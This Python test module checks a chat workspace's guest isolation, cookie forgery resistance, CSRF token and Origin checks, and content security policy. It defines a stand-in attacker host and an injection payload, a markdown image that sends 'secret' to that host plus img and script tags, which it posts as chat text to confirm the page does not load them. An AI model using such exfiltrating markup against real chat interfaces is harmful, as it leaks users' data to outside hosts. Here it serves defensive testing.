"""Area chat: what one guest says is nobody else's, what changes something comes from a page of ours, nothing of a page comes from elsewhere (S7, S8, S11, rules 22 and 24)."""

import json
import re
import secrets
from dataclasses import dataclass
from http.client import HTTPException
from typing import Any

from infra.prove.areas.guard import check_cookies, check_private, policy_fault
from infra.prove.check import Book, Check
from infra.prove.fetch import Answer, get, send
from infra.prove.target import Target
from shared.ids import fresh_id

EVIL = "https://evil.example"
PICTURE = f"![x]({EVIL}/p.png?q=secret) <img src={EVIL}/i.png> <script>1</script>"
JSON = {"Content-Type": "application/json"}


@dataclass(frozen=True)
class Visitor:
    """A guest of this run, who has said something. `cookie` as the browser sends it."""

    cookie: str
    token: str
    conversation: str

    @property
    def headers(self) -> dict[str, str]:
        return {"Cookie": self.cookie, "X-Form-Token": self.token}


async def check(target: Target) -> list[Check]:
    book = Book("chat")
    try:
        await check_chat(book, target.config.urls["workspace"], target.token)
    except (OSError, HTTPException, ValueError, KeyError) as error:
        book.add("prove", "reach the workspace", "an answer", "no answer", f"{type(error).__name__}: {error}")
    return book.checks


async def check_chat(book: Book, base: str, word: str) -> None:
    """`word` marks what this run says."""
    looked = await get(base, "/")
    book.holds("a guest", "who only looks is given nothing", looked.header("set-cookie"))
    one, two = await _arrive(book, base, word), await _arrive(book, base, "hello")
    try:
        await _others(book, base, one, two, word)
        await _forged(book, base, one)
        await _tokens(book, base, one)
        await _page(book, base, one)
    finally:
        for each in (one, two):
            await send(base, "DELETE", "/api/v1/me/visit", each.headers)
    book.same("a guest", "the cookie of a visit that is over finds", "[]", (await _list(base, one.cookie)).body)


async def _arrive(book: Book, base: str, text: str) -> Visitor:
    answer = await send(base, "POST", "/api/v1/turns", JSON, json.dumps({"text": f"summarise: {text} {PICTURE}"}))
    check_cookies(book, "a guest", "the first message", answer)
    check_private(book, "a guest", "the answer", answer)
    said: dict[str, Any] = json.loads(answer.body)
    cookie = answer.header("set-cookie").split(";")[0]
    return Visitor(cookie, said["token"], said["conversation_id"])


async def _others(book: Book, base: str, one: Visitor, two: Visitor, word: str) -> None:
    """A conversation of somebody else's is like none, at every address (rule 24)."""
    for method, path, body in _addresses():
        mine = await _ask(base, method, path.format(one.conversation), body.replace("ID", one.conversation), two)
        none = str(fresh_id())
        nothing = await _ask(base, method, path.format(none), body.replace("ID", none), two)
        book.same("another guest", f"{method} {path}", shape(nothing), shape(mine))
        book.add("another guest", f"{method} {path} is refused", "404", str(mine.status))
        book.holds("another guest", f"{method} {path} tells nothing", "it does" if word in mine.body else "")
    nobody = await get(base, f"/live?c={one.conversation}")
    book.add("nobody", "GET /live of a conversation", "401", str(nobody.status))


def _addresses() -> list[tuple[str, str, str]]:
    one = "/api/v1/conversations/{}"
    return [
        ("GET", "/c/{}", ""), ("GET", "/live?c={}", ""), ("GET", one, ""), ("GET", f"{one}/messages", ""), ("GET", f"{one}/events", ""),
        ("PATCH", one, '{"title": "x"}'), ("POST", f"{one}/stop", ""), ("POST", f"{one}/clear", ""), ("DELETE", one, ""),
        ("POST", "/api/v1/turns", '{"text": "hello", "conversation_id": "ID"}'),
    ]  # fmt: skip


async def _forged(book: Book, base: str, one: Visitor) -> None:
    """Only the cookie itself finds a visit; what looks like it, or names somebody, finds nothing (AG-08)."""
    name, _, value = one.cookie.partition("=")
    place = value.partition(".")[0]
    wrong = {
        "a made-up cookie": f"{place}.{secrets.token_urlsafe(32)}",
        "the id of another's conversation": one.conversation,
        "another's cookie, cut": value[:-1],
        "a person's id": str(fresh_id()),
    }
    for says, forged in wrong.items():
        book.same("a guest", f"{says} finds", "[]", (await _list(base, f"{name}={forged}")).body)


async def _tokens(book: Book, base: str, one: Visitor) -> None:
    """What changes something needs the token of the visit, and no foreign page may send it even so."""
    for method, path, body in _addresses():
        if method == "GET":
            continue
        where, said = path.format(one.conversation), body.replace("ID", one.conversation)
        for says, token in (("without a token", ""), ("with a made-up token", "f" * 64)):
            answer = await send(base, method, where, {**JSON, "Cookie": one.cookie, "X-Form-Token": token}, said)
            book.add("a guest's browser", f"{method} {path} {says}", "403", str(answer.status))
        answer = await send(base, method, where, {**JSON, **one.headers, "Origin": EVIL}, said)
        book.add("a foreign page", f"{method} {path}", "403", str(answer.status))
    for path in ("/", f"/c/{one.conversation}", f"/c/{one.conversation}/delete", "/leave"):
        form = {"Content-Type": "application/x-www-form-urlencoded", "Cookie": one.cookie}
        answer = await send(base, "POST", path, form, "message=hello&token=x")
        shown = path.replace(one.conversation, "…")
        book.add("a guest's browser", f"POST {shown} with a made-up token", "403", str(answer.status))


async def _page(book: Book, base: str, one: Visitor) -> None:
    """What was said names pictures and scripts from elsewhere; the page loads none of them (S11)."""
    page = await get(base, f"/c/{one.conversation}", {"Cookie": one.cookie})
    check_private(book, "a guest", "a conversation", page)
    book.holds(
        "a conversation",
        "its policy lets nothing in from elsewhere",
        policy_fault(page.header("content-security-policy")),
    )
    loads = re.findall(rf"<(?:img|script|iframe|link|object|source)[^>]*(?:{EVIL}|>1)", page.body)
    book.holds("a conversation", "pictures and scripts in what was said are text or links", ", ".join(loads))


async def _list(base: str, cookie: str) -> Answer:
    return await get(base, "/api/v1/conversations", {"Cookie": cookie})


async def _ask(base: str, method: str, path: str, body: str, as_: Visitor) -> Answer:
    return await send(base, method, path, {**JSON, **as_.headers}, body)


def shape(answer: Answer) -> str:
    """What a stranger could tell two answers apart by; ids and the trace are their own."""
    try:
        said = json.loads(answer.body)
        return f"{answer.status} {said['code']} {said['message']}"
    except (ValueError, KeyError, TypeError):
        return f"{answer.status} {answer.header('content-type')}"
